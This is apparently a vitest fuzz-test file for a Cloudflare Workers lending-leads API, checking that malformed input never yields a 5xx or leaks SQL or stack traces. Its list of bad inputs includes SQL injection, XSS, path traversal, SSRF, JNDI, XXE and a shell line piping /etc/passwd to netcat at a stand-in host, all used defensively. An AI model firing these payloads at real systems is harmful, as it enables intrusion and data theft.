import { env } from "cloudflare:workers";
import { afterAll, beforeAll, beforeEach, expect, test, vi } from "vitest";
import { categoryCriteria } from "../../db/model/lenders.ts";
import type { Env } from "../../worker/env.ts";
import { exampleApplication } from "../examples.ts";
import { callWith, post as send } from "./call.ts";
import { freshDatabase } from "./database.ts";
import { randomFrom, seed } from "./faults.ts";
import { addressOf, apiRoutes, type Route } from "./routes.ts";
import { apply, type Colleague, signedIn } from "./staff.ts";

/** Promise 7: no input gets a 5xx; every answer is a documented status in the one shape, without stack or SQL. */

freshDatabase();
beforeAll(() => void vi.spyOn(console, "log").mockImplementation(() => undefined));
afterAll(() => void vi.restoreAllMocks());

const MANY_MINUTES = 60 * 60_000;
const PARALLEL = 50;
/** Per endpoint. The short run is the smaller because there are many endpoints. */
const RANDOM_INPUTS = env.LONG ? 50_000 : 50;
const DOCUMENTED = [200, 201, 202, 400, 401, 403, 404, 405, 409, 410, 413, 415, 422, 429];

/** Sign-in is limited, because each guess at a password costs a server a tenth of a second; floods are let through. */
const limited: Env = { ...env, LIMITS: "strict", FLOOD_GUARD: { limit: async () => ({ success: true }) } };

/** Whoever asks is a manager, whom every route lets in; what is stored before is what addresses may name. */
let manager: Colleague;
let stored: Record<string, string>;
beforeEach(async () => {
  manager = await signedIn("manager");
  stored = await storeOneOfEach();
});

const post = { title: "A title", slug: "a-title", heroImageUrl: null, tags: "a, b", content: "Text", published: true };
const dealer = { name: "A dealer", metro: "Austin", leadAddress: "leads@dealer.test", isActive: true };
const lender = {
  name: "A lender",
  category: "Credit unions",
  leadAddress: "leads@lender.test",
  criteria: categoryCriteria["Credit unions"],
  isActive: true,
};
/** Bodies from which bad ones are made. */
const valid: Record<string, Record<string, unknown>> = {
  "POST /api/applications/submit": exampleApplication({
    consentRecord: { textIds: ["esign-1"], language: "en", shownAt: "2026-01-01T00:00:00Z", tickedAt: "x" },
  }),
  "POST /api/applications/:ref/deletion/confirm": { code: "123456" },
  "POST /api/contact": { name: "Maria", message: "Do you help with a truck?", replyTo: "a@b.co" },
  "POST /api/newsletter": { email: "maria@example.com" },
  "POST /api/session": { username: "maria", password: "wrong" },
  "POST /api/blog": post,
  "PUT /api/blog/id/:id": { ...post, updatedAt: 1 },
  "POST /api/desk/queue/search": { q: "lopez", cursor: "7" },
  "POST /api/desk/case/:id/assign": { ownerId: "nobody" },
  "POST /api/desk/case/:id/status": { from: "submitted", to: "in_review", outcome: null },
  "POST /api/desk/case/:id/notes": { text: "Called, no answer" },
  "POST /api/desk/case/:id/send": { kind: "dealer", recipientId: "nobody" },
  "POST /api/desk/directory/lenders": lender,
  "PUT /api/desk/directory/lenders/:id": lender,
  "POST /api/desk/directory/dealers": dealer,
  "PUT /api/desk/directory/dealers/:id": dealer,
  // Refused for its role: to add somebody costs as much as a guess at a password.
  "POST /api/desk/users": { username: "noor", role: "nobody" },
  "PUT /api/desk/users/:id": { role: "specialist" },
  "POST /api/desk/messages/:id/status": { status: "answered" },
  "POST /api/desk/messages/:id/reply": { text: "Yes, we do." },
};
/** The names of every query that some route reads. */
const QUERY = ["q", "limit", "cursor"];
/** Without `q` and `show`, whose bad values hide what comes after them; random inputs have all. */
const DESK_QUERY = ["cursor", "owner", "since", "before"];

const long = (length: number) => "x".repeat(length);

const badTexts: Record<string, string> = {
  empty: "",
  blanks: "   \t ",
  "a null byte": "Mar\0ia",
  "a bell": "Mar\u0007ia",
  "an escape": "\u001b[31mred",
  "a delete": "a\u007fb",
  "C1 controls": "a\u0085\u009fb",
  "a lone high surrogate": "a\ud800b",
  "a lone low surrogate": "\udc00",
  "swapped surrogates": "\udc00\ud800",
  "zero-width characters only": "\u200b\u200c\u200d\u2060\ufeff",
  "right-to-left override": "\u202egnp.exe",
  "a combining flood": `a${"\u0301".repeat(2000)}`,
  emoji: "👩‍👩‍👧‍👦".repeat(20),
  "Arabic ligature that grows under NFKC": "\ufdfa".repeat(50),
  "a Turkish i": "İıİı",
  "full-width digits": "２１０５５５０１２３",
  "a BOM": "\ufeff{}",
  "line breaks": "a\r\nb\nc\rd",
  "line separators": "a\u2028b\u2029c",
  "code points that are no characters": "a\ufdd0b\ufffec\u{1ffff}d",
  "header injection": "a\r\nBcc: x@evil.test",
  "SQL quote": "'; drop table applications; --",
  "SQL union": "' union select * from users --",
  "SQL comment": "/* */ -- #",
  "a LIKE pattern": "%_%",
  "an FTS query": 'title:a* OR "b" NEAR(c d)',
  "an unbalanced quote": '"',
  "a script": "<script>alert(1)</script>",
  "an image handler": "<img src=x onerror=alert(1)>",
  "a javascript address": "javascript:alert(1)",
  "a data address": "data:text/html,<script>alert(1)</script>",
  "a file address": "file:///etc/passwd",
  "an inner address": "http://169.254.169.254/latest/meta-data",
  "a path upwards": "../../../etc/passwd",
  "a path upwards, encoded": "..%2f..%2fetc%2fpasswd",
  "a Windows path": "..\\..\\boot.ini",
  "a template": "{{7*7}}<%= 7*7 %>",
  "a JNDI look-up": `${"$"}{jndi:ldap://evil.test/a}`,
  "a printf format": "%s%s%n%x",
  "a shell command": "; cat /etc/passwd | nc evil 1",
  "an XML entity": '<!DOCTYPE a [<!ENTITY b SYSTEM "file:///etc/passwd">]>&b;',
  "a CSV formula": "=cmd|' /C calc'!A0",
  __proto__: "__proto__",
  constructor: "constructor",
  toString: "toString",
  "the word null": "null",
  "the word undefined": "undefined",
  "the word NaN": "NaN",
  "the word true": "true",
  "a number as text": "1e309",
  "a negative number as text": "-1",
  "hexadecimal as text": "0x7fffffff",
  "101 characters": long(101),
  "255 characters": long(255),
  "5001 characters": long(5001),
  "15 KB": long(15_000),
  "17 KB": long(17_000),
  "300 KB": long(300_000),
  "an expensive address": `${"a.".repeat(120)}@${"b.".repeat(100)}c`,
  "an address with two @": "a@b@c.co",
  "an address with a comment": "a(b)@c.co",
  "an address of an IP": "a@[127.0.0.1]",
  "spaces for a regular expression": `${" ".repeat(10_000)}x`,
  "hyphens for a slug": "-".repeat(5000),
  "a slug that is taken": "new",
  "a date that is none": "2026-02-30T25:61:61Z",
  "a year beyond time": "+275761-01-01T00:00:00Z",
};
const badValues: Record<string, unknown> = {
  ...badTexts,
  null: null,
  true: true,
  false: false,
  zero: 0,
  "minus zero": -0,
  "minus one": -1,
  "a half": 0.5,
  "a very small number": 5e-324,
  "beyond 32 bits": 2 ** 31,
  "beyond safe integers": 2 ** 53,
  "beyond 64 bits": 1e20,
  "the largest number": Number.MAX_VALUE,
  "a list": [],
  "a list of nothing": [null],
  "a list of lists": [[[[[]]]]],
  "a list of texts": ["a", "b"],
  "a long list": Array(3000).fill(0),
  "an object": {},
  "an object with a length": { length: 10 },
  "an object with toString": { toString: "x", valueOf: 1 },
  "an object with toJSON": { toJSON: "x" },
  "an object with a prototype": JSON.parse('{"__proto__": {"a": 1}}'),
  "an operator": { $gt: "" },
};
/** Whole bodies that are no JSON, or none that we know. */
const badBodies: Record<string, string | Uint8Array> = {
  nothing: "",
  blank: "  \n",
  null: "null",
  true: "true",
  "a number": "7",
  "a huge number": `1${"0".repeat(5000)}`,
  "a text": '"text"',
  "a list": "[]",
  "a list of objects": "[{}]",
  "an empty object": "{}",
  "half an object": '{"fullName":',
  "single quotes": "{'a': 1}",
  "a trailing comma": '{"a":1,}',
  "a comment": '{"a":1} // x',
  "two bodies": "{}{}",
  NaN: '{"a":NaN}',
  "a form": "fullName=Maria&phone=1",
  XML: "<a/>",
  "invalid UTF-8": new Uint8Array([0x7b, 0x22, 0xff, 0xfe, 0x22, 0x3a, 0x31, 0x7d]),
  "overlong UTF-8": new Uint8Array([0x22, 0xc0, 0x80, 0x22]),
  "UTF-16": new Uint8Array([0xff, 0xfe, 0x7b, 0x00, 0x7d, 0x00]),
  "a BOM": new Uint8Array([0xef, 0xbb, 0xbf, 0x7b, 0x7d]),
  "a null byte": "\0",
  "deep lists": "[".repeat(7000) + "]".repeat(7000),
  "deep objects": `${'{"a":'.repeat(2500)}1${"}".repeat(2500)}`,
  "a doubled key": '{"name":"Maria","name":null}',
  "prototype keys": '{"__proto__":{"fullName":"x"},"constructor":{"prototype":1}}',
  "many keys": `{${Array.from({ length: 1500 }, (_, n) => `"k${n}":1`).join()}}`,
};

/** Without a parameter the address names something that exists. */
type Input = { body?: string | Uint8Array; parameter?: string; query?: string };

for (const route of apiRoutes) {
  const name = `${route.method} ${route.pattern}`;

  test(`${name} answers every named bad input in the documented way`, { timeout: MANY_MINUTES }, async () => {
    const complaints: string[] = [];
    const inputs = namedInputs(name, route);
    expect(inputs.length).toBeGreaterThanOrEqual(100);
    for (const [inputName, input] of inputs) {
      const complaint = await complaintAbout(route, input);
      if (complaint) complaints.push(`${inputName}: ${complaint}`);
    }
    expect(complaints).toEqual([]);
  });

  test(`${name} answers random inputs in the documented way`, { timeout: MANY_MINUTES }, async () => {
    const random = randomFrom(seed);
    const complaints: string[] = [];
    let made = 0;
    const visitor = async () => {
      while (made < RANDOM_INPUTS && complaints.length < 5) {
        const number = made++;
        const complaint = await complaintAbout(route, randomInput(name, route, random));
        if (complaint) complaints.push(`${number}: ${complaint}`);
      }
    };
    await Promise.all(Array.from({ length: PARALLEL }, visitor));
    expect(complaints, `seed ${seed}`).toEqual([]);
  });
}

/** What is wrong with the answer to this input, if anything is. */
async function complaintAbout(route: Route, { body, parameter = existing(route), query = "" }: Input) {
  const type = route.pattern === "/api/media" ? "multipart/form-data; boundary=edge" : "application/json";
  const answer = await callWith(route.pattern === "/api/session" ? limited : env, addressOf(route, parameter) + query, {
    method: route.method,
    headers: { "content-type": type, ...manager.headers },
    ...(hasBody(route) && { body: body ?? "{}" }),
  });
  const text = await answer.text();
  if (!DOCUMENTED.includes(answer.status)) return `${answer.status} ${text}`;
  // What succeeds may repeat what was sent.
  if (answer.status < 400) return;
  if (/SQLITE|D1_|\bselect .* from\b|\n\s+at |\.ts:\d/i.test(text)) return `it shows how we are built: ${text}`;
  const envelope = JSON.parse(text);
  const isEnvelope = envelope.ok === false && envelope.success === false && /^[A-Z]/.test(envelope.error);
  return isEnvelope ? undefined : `not the shape of errors: ${text}`;
}

/** One of each thing that an address can name, by the start of that address. */
async function storeOneOfEach(): Promise<Record<string, string>> {
  const ref = await apply();
  const idIn = async (table: string) => (await env.DB.prepare(`select id from ${table}`).first<string>("id")) ?? "";
  const colleague = await signedIn("specialist");
  await manager.post("/api/blog", post);
  await manager.post("/api/desk/directory/dealers", dealer);
  await manager.post("/api/desk/directory/lenders", lender);
  await send("/api/contact", valid["POST /api/contact"]);
  await env.DB.exec("update outbox set status = 'dead'");
  return {
    "/api/applications/": ref,
    "/api/blog/": "a-title",
    "/api/blog/id/": await idIn("blog_posts"),
    "/api/desk/case/": ref,
    "/api/desk/directory/dealers/": await idIn("dealers"),
    "/api/desk/directory/lenders/": await idIn("lenders"),
    "/api/desk/messages/": await idIn("contact_messages"),
    "/api/desk/outbox/": await idIn("outbox"),
    "/api/desk/users/": colleague.id,
  };
}

function existing({ pattern }: Route) {
  const [start] = pattern.split(":");
  return start === pattern ? undefined : stored[start as string];
}

function hasBody({ method }: Route) {
  return method === "POST" || method === "PUT";
}

function namedInputs(name: string, route: Route): [string, Input][] {
  const example = valid[name];
  if (route.pattern === "/api/media") {
    return Object.entries({ ...badTexts, ...badBodies, ...parts() }).map(([inputName, body]) => [inputName, { body }]);
  }
  const addresses = Object.entries({ ...badTexts, ...manyAddresses() }).map(([textName, text]): [string, Input] => [
    `address with ${textName}`,
    {
      parameter: text.toWellFormed().slice(0, 8000) || "x",
      query: queryWith(text, route.pattern.includes("/desk/") ? DESK_QUERY : QUERY),
      body: JSON.stringify(example),
    },
  ]);
  const bodies = Object.entries(badBodies).map(([bodyName, body]): [string, Input] => [bodyName, { body }]);
  const cursors = Object.entries(manyAddresses()).map(([textName, text]): [string, Input] => [
    `cursor of ${textName}`,
    { query: queryWith(text, ["cursor"]) },
  ]);
  if (!hasBody(route)) return [...addresses, ...cursors];
  if (!example) return [...addresses, ...bodies];
  const fields = Object.keys(example);
  const values = Object.entries(badValues).map(([valueName, value], index): [string, Input] => {
    const field = changeable(name, fields[index % fields.length] as string, value);
    return [`${field} is ${valueName}`, { body: JSON.stringify({ ...example, [field]: value }) }];
  });
  return [...addresses, ...bodies, ...values];
}

/** Signing in is tried with one username, which is soon over its limit. */
function changeable(name: string, field: string, value: unknown) {
  return name === "POST /api/session" && typeof value === "string" ? "password" : field;
}

function queryWith(text: string, names: readonly string[]) {
  return `?${new URLSearchParams(names.map((name) => [name, text.slice(0, 8000 / names.length)]))}`;
}

function manyAddresses() {
  const numbers = ["0", "1", "-1", "101", "1e3", "Infinity", "0x10", "1.5", "9".repeat(40), "1_2", "5_a", "٣"];
  const cursors = ["1_", "_1", "1_1_1", `${"9".repeat(15)}_a`, `${"9".repeat(16)}_a`, "-1_a", "1_é", "1_' or 1=1"];
  const references = [
    "%",
    "%00",
    "%zz",
    "%c0%80",
    "%F0%9F",
    "?",
    "#",
    "/",
    "//",
    ".",
    "..",
    "a/b",
    "id",
    "drafts",
    "new",
  ];
  return Object.fromEntries([...numbers, ...cursors, ...references].map((text) => [`'${text}'`, text]));
}

/** Multipart bodies that are none. */
function parts() {
  const head = '--edge\r\ncontent-disposition: form-data; name="file"; filename="a.png"\r\n';
  return {
    "no end": head,
    "no file": "--edge--",
    "an empty file": `${head}\r\n\r\n--edge--`,
    "a text in place of the file": '--edge\r\ncontent-disposition: form-data; name="file"\r\n\r\ntext\r\n--edge--',
    "a file that is no picture": `${head}content-type: image/png\r\n\r\nnot a picture\r\n--edge--`,
    "an svg": `${head}content-type: image/svg+xml\r\n\r\n<svg onload="alert(1)"/>\r\n--edge--`,
    "a file under another name": head.replace('"file"', '"picture"'),
    "half a picture": `${head}content-type: image/png\r\n\r\n\x89PNG\r\n\x1a\n\r\n--edge--`,
    "no line breaks": head.replaceAll("\r\n", ""),
    "another boundary": head.replaceAll("edge", "other"),
  };
}

function randomInput(name: string, route: Route, random: () => number): Input {
  const pick = <T>(from: readonly T[]) => from[Math.floor(random() * from.length)] as T;
  if (route.pattern === "/api/media") return { body: randomBytes(random, pick) };
  const address: Input = {
    ...(random() >= shareOfExisting(route) && { parameter: randomText(random).toWellFormed() || "x" }),
    ...(random() < 0.5 && {
      query: queryWith(
        randomText(random),
        [...QUERY, ...DESK_QUERY, "show"].filter(() => random() < 0.5),
      ),
    }),
  };
  const example = valid[name];
  if (!example) return { ...address, body: randomBytes(random, pick) };
  if (random() < 0.1) return { ...address, body: randomBytes(random, pick) };
  const body: Record<string, unknown> = { ...example };
  const fields = Object.keys(example);
  for (let changes = 1 + Math.floor(random() * 3); changes > 0; changes--) {
    const value = randomValue(random, 3);
    const field = changeable(name, pick(fields), value);
    if (random() < 0.15) delete body[field];
    else body[field] = value;
  }
  return { ...address, body: JSON.stringify(body) };
}

/** A new password takes a tenth of a second. */
function shareOfExisting({ pattern }: Route) {
  return pattern.endsWith("/password") ? 0.001 : 0.5;
}

function randomValue(random: () => number, depth: number): unknown {
  const kind = Math.floor(random() * (depth > 0 ? 8 : 6));
  switch (kind) {
    case 0:
      return null;
    case 1:
      return random() < 0.5;
    case 2:
      return Math.round((random() - 0.5) * 10 ** Math.floor(random() * 20));
    case 3:
      return (random() - 0.5) * 10 ** Math.floor(random() * 600 - 300);
    case 6:
      return Array.from({ length: Math.floor(random() * 4) }, () => randomValue(random, depth - 1));
    case 7:
      return Object.fromEntries(
        Array.from({ length: Math.floor(random() * 4) }, () => [randomText(random), randomValue(random, depth - 1)]),
      );
    default:
      return randomText(random);
  }
}

const ALPHABETS = [
  "abc XYZ-@.",
  "0123456789",
  "'\"`;%_\\/*",
  "\0\u0007\n\r\t\u007f",
  "éß\u0301\u200b\u202e",
  "\ud83d\ude00\ud800\udc00",
];

function randomText(random: () => number) {
  if (random() < 0.2) return Object.values(badTexts)[Math.floor(random() * 50)] as string;
  const alphabet = ALPHABETS[Math.floor(random() * ALPHABETS.length)] as string;
  const length = Math.floor(random() ** 4 * 400);
  return Array.from({ length }, () => alphabet[Math.floor(random() * alphabet.length)]).join("");
}

function randomBytes(random: () => number, pick: <T>(from: readonly T[]) => T) {
  if (random() < 0.5) return pick(Object.values({ ...badBodies, ...parts() }));
  return Uint8Array.from({ length: Math.floor(random() * 300) }, () => Math.floor(random() * 256));
}
